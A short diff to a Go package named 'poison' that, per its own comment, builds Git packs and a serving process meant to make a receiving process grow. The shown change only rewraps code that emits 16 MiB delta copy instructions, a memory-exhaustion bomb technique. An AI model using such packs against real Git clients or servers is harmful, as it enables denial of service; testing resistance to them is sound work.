@@ -1,5 +1,5 @@
-// Package poison makes what an attacker sends to let a process grow: packs of Git, and a server that sends them. What it
-// makes is small; what comes out of it is not.
+// Package poison makes what an attacker sends to let a process grow: packs of Git, and a server that sends them. What
+// it makes is small; what comes out of it is not.
 package poison
 
 import (
@@ -147,7 +147,8 @@ func (p *Pack) Delta(base, size int64, padding string) int64 {
 	delta = binary.AppendUvarint(delta, uint64(target))
 	for off := int64(0); off < size; { // copies of at most 16 MiB - 1
 		n := min(size-off, 0xffffff)
-		delta = append(delta, 0xff, byte(off), byte(off>>8), byte(off>>16), byte(off>>24), byte(n), byte(n>>8), byte(n>>16))
+		delta = append(delta, 0xff, byte(off), byte(off>>8), byte(off>>16), byte(off>>24))
+		delta = append(delta, byte(n), byte(n>>8), byte(n>>16))
 		off += n
 	}
 	for rest := padding; rest != ""; {
